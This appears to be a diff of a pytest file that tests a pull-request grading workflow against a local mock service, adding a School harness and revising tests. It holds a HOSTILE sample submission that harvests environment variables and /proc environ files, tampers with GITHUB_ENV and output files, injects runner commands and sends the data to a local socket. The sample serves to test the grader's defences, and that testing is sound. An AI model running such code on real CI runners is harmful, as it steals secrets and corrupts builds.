@@ -1,22 +1,119 @@
-"""The workflow that grades pull requests, step by step, against a service that stands on this machine."""
+"""The workflow that grades pull requests, step by step, in a school that stands on this machine."""
 
 import re
 import shutil
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
 import jupytext
 import pytest
+import torch
 
+from manyheads.authoring.class_repository import bundle, hand_over
+from manyheads.course import load_course
 from manyheads.platforms.pull_request import MARK
-from tests.make import REPOSITORY, RIGHT, TINY, WRONG
-from tests.workflows.hosted.runner import Job
+from tests.make import REPOSITORY, RIGHT, TINY, WRONG, copy_course, git
+from tests.workflows.hosted.runner import Job, Run, load_workflow
 from tests.workflows.hosted.service import Service
-from tests.workflows.school import DEVICE, KEY, NOTEBOOK, SCRIPT, WORKFLOW, School, found, git
+
+SCRIPT, NOTEBOOK = (f"exercises/averages/01_running_mean{end}" for end in (".py", ".ipynb"))
+KEY = "-----BEGIN OPENSSH PRIVATE KEY----- the key of the private course"
+WORKFLOW = ".github/workflows/grade.yml"
+DEVICE = "cuda" if torch.cuda.is_available() else "cpu"
+
+
+def publish(folder: Path, bare: Path) -> str:
+    """Commit a folder, and put it where the service looks for it; the commit."""
+    git(folder, "init", "--quiet")
+    git(folder, "add", "--all", "--force", ".")
+    git(folder, "commit", "--quiet", "--message", "as released")
+    git(folder, "clone", "--quiet", "--bare", str(folder), str(bare))
+    return git(folder, "rev-parse", "HEAD")
+
+
+def found(folder: Path) -> str:
+    """Make both repositories in a folder: the tiny course's, and the class's as it is released. The course's commit."""
+    private, released, held = folder / "private", folder / "released", folder / "repositories" / "school"
+    private.mkdir()
+    held.mkdir(parents=True)
+    parts = [TINY / name for name in ("course.yaml", "solutions", "grader", "exercises")]
+    for source in (*parts, *(REPOSITORY / name for name in ("Makefile", "pyproject.toml", "constraints.txt", "tools"))):
+        (copy_course if source.is_dir() else shutil.copy)(source, private / source.name)
+    files = [p for p in (TINY / "exercises").rglob("*") if p.is_file() and "__pycache__" not in p.parts]
+    course = load_course(TINY)
+    hand_over(course, released, bundle(course, files, "@school"))
+    publish(released, held / "class.git")
+    commit = publish(private, held / "course.git")
+    (held / "course.git" / "deploy-key").write_text(KEY)
+    return commit
+
+
+@dataclass
+class School:
+    """Its folder, its service, and how its class repository is set up."""
+
+    folder: Path
+    service: Service
+    course_ref: str
+    variables: dict[str, str] = field(default_factory=lambda: {"GRADING": "on"})
+    course_key: str = KEY
+    options: dict[str, Any] = field(default_factory=dict)  # of every run
+
+    @property
+    def bare(self) -> Path:
+        """The class repository as the service holds it."""
+        return self.service.repositories / "school" / "class.git"
+
+    def clone(self) -> Path:
+        """A new clone of the class repository."""
+        work = self.folder / f"work-{len(list(self.folder.iterdir()))}"
+        git(self.folder, "clone", "--quiet", str(self.bare), str(work))
+        return work
+
+    def pull_request(
+        self, number: int, changes: Mapping[str, str | Path], login: str = "ada", fork: bool = False, **more: str
+    ) -> dict[str, Any]:
+        """The event of a pull request with one commit of these texts and links: of a branch, or of a fork."""
+        work = self.clone()
+        for path, change in changes.items():
+            (work / path).unlink(missing_ok=True)
+            (work / path).parent.mkdir(parents=True, exist_ok=True)
+            (work / path).symlink_to(change) if isinstance(change, Path) else (work / path).write_text(change)
+        git(work, "add", "--all", "--force", ".")
+        git(work, "commit", "--quiet", "--allow-empty", "--message", "my attempt")
+        head = self.service.heads[number] = git(work, "rev-parse", "HEAD")
+        self.service.authors[number] = login
+        git(work, "push", "--quiet", "--force", "origin", f"HEAD:refs/pull/{number}/head")
+        repository = {"full_name": f"{login}/class" if fork else "school/class", "fork": fork}
+        head_of = {"sha": head, "ref": more.pop("branch", login), "repo": repository}
+        user = {"login": login, "type": "Bot" if login.endswith("[bot]") else "User"}
+        pull = {"head": head_of, "title": "", "body": "", "number": number, "user": user, **more}
+        asked = {"action": "synchronize", "number": number, "pull_request": pull}
+        return asked | {"repository": {"full_name": "school/class"}}
+
+    def run(self, event: Mapping[str, Any], name: str = "pull_request_target") -> dict[str, Job]:
+        """A run of the workflow that stands on the default branch."""
+        return self.begun(event, name).whole()
+
+    def dispatch(self, number: int) -> dict[str, Job]:
+        """A run that somebody asked for, to grade a pull request again."""
+        about = {"full_name": "school/class", "default_branch": "main"}
+        return self.run({"inputs": {"pull_request": str(number)}, "repository": about}, "workflow_dispatch")
+
+    def begun(self, event: Mapping[str, Any], name: str = "pull_request_target") -> Run:
+        """A run that has a folder of its own, and no job yet."""
+        workflow = load_workflow(git(self.bare, "show", f"main:{WORKFLOW}"))
+        assert name in workflow["on"]
+        settings = {"COURSE_REPOSITORY": "school/course", "COURSE_REF": self.course_ref}
+        holds = {"secrets": {"COURSE_KEY": self.course_key}, "vars": settings}
+        folder = self.folder / f"run-{len(list(self.folder.iterdir()))}"
+        given = {"device": DEVICE, "environments": {"grading": holds, "gpu": holds}, **self.options}
+        return Run(workflow, name, event, self.service, folder, self.variables, **given)
+
 
 pytestmark = pytest.mark.journey
-
 NO_RUNNER = "**On a GPU:** Not run: this class has no GPU runner (the repository variable GPU_RUNNER is empty)."
 TO_THE_RUNNER = re.compile(r"(?m)^\s*::|##\[")  # what a step may say to it through its output
 
@@ -79,6 +176,7 @@ def test_a_right_attempt_is_graded_on_both_and_the_next_push_takes_its_place(sch
     assert jobs["report"].summary == f"{said}\n"
     assert jobs["cpu"].summary.startswith("## Averages: 4 / 4\n")
     (run,) = school.service.check_runs
+    assert run["output"]["summary"] == said
     assert (run["head_sha"], run["conclusion"]) == (right["pull_request"]["head"]["sha"], "success")
     assert run["output"]["annotations"] == []
 
@@ -141,20 +239,16 @@ HOSTILE = """
 import glob, os, socket, sys
 
 LOOT = " ".join(os.environ.values())
-for path in ("/proc/self/environ", "/proc/1/environ", *glob.glob("/tmp/*"), *glob.glob("FOLDER/**", recursive=True)):
-    try:
-        LOOT += open(path, errors="replace").read()
-    except OSError:
-        pass
 for word in ("::set-output name=hygiene::clean", "::add-mask::4", "::stop-commands::x", "::error::x", "##[error]x"):
     print(word, flush=True)
     print(word, file=sys.stderr, flush=True)
-for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
-    for path in (os.environ.get(name, ""), *glob.glob(f"FOLDER/**/{name.lower()}_*", recursive=True)):
-        try:
-            open(path, "a").write("hygiene=clean\\nEVIL=1\\n")
-        except OSError:
-            pass
+files = [os.environ.get(name, "") for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY")]
+for path in (*files, "/proc/self/environ", "/proc/1/environ", *glob.glob("FOLDER/**", recursive=True)):
+    try:
+        LOOT += open(path, errors="replace").read()
+        open(path, "a").write("hygiene=clean\\nEVIL=1\\n")
+    except OSError:
+        pass
 try:
     socket.create_connection(("127.0.0.1", PORT), 1).sendall(f"GET /stolen?{LOOT!r} HTTP/1.0\\r\\n\\r\\n".encode())
 except OSError:
@@ -253,12 +347,6 @@ def test_a_pull_request_without_an_attempt_needs_no_grading(school: School) -> N
     assert school.service.check_runs[-1]["conclusion"] == "neutral"
 
 
-@pytest.mark.soak  # the run is made twice in full
-def test_a_run_can_be_run_again(school: School) -> None:
-    assert_ended(school.again(school.pull_request(8, {SCRIPT: RIGHT})))
-    assert comment(school, 8).startswith("## Averages: 4 / 4\n")
-
-
 def test_an_attempt_that_was_merged_is_no_stub_and_gets_no_gpu_that_nobody_approves(school: School) -> None:
     """Only the private course knows the stubs: what the class repository's branch holds may be somebody's attempt."""
     school.variables["GPU_RUNNER"] = "gpu-box"
@@ -281,40 +369,3 @@ def test_a_dispatch_grades_the_newest_commit_of_a_pull_request_again(school: Sch
         assert_ended(school.dispatch(number))
         assert comment(school, number).startswith(f"## Averages: {score} / 4\n")
         assert school.service.check_runs[-1]["head_sha"] == school.service.heads[number]
-
-
-FIRST, SECOND = "multi_head_attention", "attention_in_practice"
-HANDED_IN = {
-    f"{SECOND}/04_kv_cache.py": "goran",
-    f"{SECOND}/05_sliding_window.py": "goran",
-    f"{SECOND}/03_rotary.ipynb": "kofi",
-    f"{FIRST}/04_reshape_dance.py": "nils",
-}
-
-
-def test_of_the_real_course_each_assignment_is_graded_and_each_mistake_stands_at_its_line(tmp_path: Path) -> None:
-    files = {
-        f"exercises/{name}": (REPOSITORY / "examples" / "submitted" / student / name).read_text(encoding="utf-8")
-        for name, student in HANDED_IN.items()
-    }
-    (tmp_path / "school").mkdir()
-    commit = found(tmp_path, REPOSITORY)
-    with Service(tmp_path / "repositories") as service:
-        school = School(tmp_path / "school", service, commit)
-        assert_ended(school.run(school.pull_request(1, files)))
-    said, run = comment(school, 1), service.check_runs[-1]
-    assert "### Multi\\-head attention: 6 / 40\n" in said
-    assert "### Attention in practice: 8.5 / 37\n" in said
-    assert "✗ CachedSelfAttention: With a cache, your mask is aligned to the first key instead\nof the last." in said
-    assert "✗ rotate: A sign of your rotation is wrong." in said
-    assert run["conclusion"] == "failure"
-    told = {each["path"]: each for each in run["output"]["annotations"]}
-    assert sorted(told) == sorted(name for name in files if "reshape" not in name)
-    window = f"exercises/{SECOND}/05_sliding_window.py"
-    line = files[window].splitlines()[told[window]["start_line"] - 1]
-    # The second where the search for the line ran out of time, as it may on a busy machine.
-    assert line.strip() in (
-        "return (distance >= 0) & (distance <= window)",
-        "def window_mask(T_q, T_k, window, device=None):",
-    )
-    assert "Your window is one key too wide or too narrow" in told[window]["message"]
